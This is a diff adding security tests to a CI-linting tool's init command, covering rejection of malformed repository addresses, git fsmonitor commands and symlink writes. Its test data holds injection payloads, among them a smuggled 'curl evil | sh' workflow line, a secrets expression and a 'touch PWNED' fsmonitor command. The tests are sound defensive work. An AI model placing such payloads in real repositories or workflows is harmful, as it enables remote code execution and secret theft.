@@ -231,3 +231,43 @@ def test_what_ci_runs_fails_where_the_project_does(tmp_path: Path) -> None:
     assert checked(tmp_path, gitlab).returncode == 1
     assert (tmp_path / "vpclint.sarif").exists()
     assert (tmp_path / "gl-code-quality-report.json").exists()
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://github.com/x/y\n      - run: curl evil | sh #",
+        "https://github.com/x/y@main # ${{ secrets.X }}",
+        "a b",
+        "\u202e",
+    ],
+)
+def test_an_address_that_would_mean_more_than_one_is_refused(tmp_path: Path, address: str) -> None:
+    done = vpclint(repository(tmp_path), "init", "--repository", address)
+    assert (done.code, done.out) == (2, "")
+    assert "is no address of a repository" in done.err
+    assert tree(tmp_path).keys() == PROJECT.keys()
+
+
+def test_the_action_is_of_an_owner_and_a_name_alone() -> None:
+    assert "uses: acme/vpclint@" in workflow("https://github.com/acme/vpclint.git")
+    assert "uses: actions/checkout@" in workflow("https://github.com/acme/deep/er")
+    assert "acme/deep/er" not in workflow("https://github.com/acme/deep/er")
+
+
+def test_a_program_that_the_repository_names_is_not_run(tmp_path: Path) -> None:
+    repository(tmp_path)
+    git(tmp_path, "config", "core.fsmonitor", "touch PWNED; false")
+    vpclint(tmp_path, "init")
+    assert not (tmp_path / "PWNED").exists()
+
+
+def test_what_links_lead_to_is_left_alone(tmp_path: Path) -> None:
+    other = tmp_path / "other"
+    put(other, {"hooks.yaml": "repos: []\n", "github/x": ""})
+    project = repository(tmp_path / "project", "https://github.com/acme/ml")
+    (project / ".pre-commit-config.yaml").symlink_to(other / "hooks.yaml")
+    (project / ".github").symlink_to(other / "github")
+    assert vpclint(project, "init").code == 0
+    assert (other / "hooks.yaml").read_text("utf-8") == "repos: []\n"
+    assert [path.name for path in (other / "github").rglob("*")] == ["x"]
